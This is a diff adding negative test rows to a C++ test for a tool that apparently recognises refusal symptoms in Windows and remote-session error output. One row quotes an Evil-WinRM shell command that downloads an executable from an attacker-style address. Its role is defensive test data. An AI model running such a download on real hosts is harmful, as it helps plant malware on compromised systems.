@@ -170,6 +170,23 @@ void tst_SymptomRefuses::nothingIsRecognized_data()
         "     : "
         "PermissionDenied: (C:\\secret.txt:String) [Get-Content], UnauthorizedAccessException");
     // In the words of PowerShell's sentence, but about something else.
+    row("a download inside a remote shell",
+        "*Evil-WinRM* PS C:\\> iwr http://10.10.14.1/x.exe -o x.exe\nUnable to connect to the remote server");
+    row("a web page inside a remote session",
+        "[srv7]: PS C:\\> Invoke-WebRequest https://intranet.contoso.com/wsman-docs\nInvoke-WebRequest : The "
+        "underlying connection was closed: Could not establish trust relationship for the SSL/TLS secure "
+        "channel.");
+    row("a download of a task",
+        "TASK [win_ping] ok: [web1]\nTASK [win_get_url] fatal: [web1]: FAILED! => {\"msg\": \"Error "
+        "requesting "
+        "'https://repo.contoso.com/a.msi'. The remote name could not be resolved: 'repo.contoso.com'\"}");
+    row("a proxy refuses, and WinRM's port is published",
+        "curl: (7) Failed to connect to proxy.contoso.com port 8080: Connection refused\ndocker-compose.yml: "
+        "ports: 5985:5985");
+    row("another program's certificate, beside a working listener",
+        "WinRM listener is on http://*:5985/wsman, Test-WSMan web3 works fine.\nBut npm install says: "
+        "request to "
+        "https://registry.npmjs.org failed, reason: unable to get local issuer certificate");
     row("a setup is denied", "Setup failed with the following error message: Access is denied.");
     row("a copy is denied", "Copying failed with the following error message: Access Denied");
     row("a backup has a wrong password",
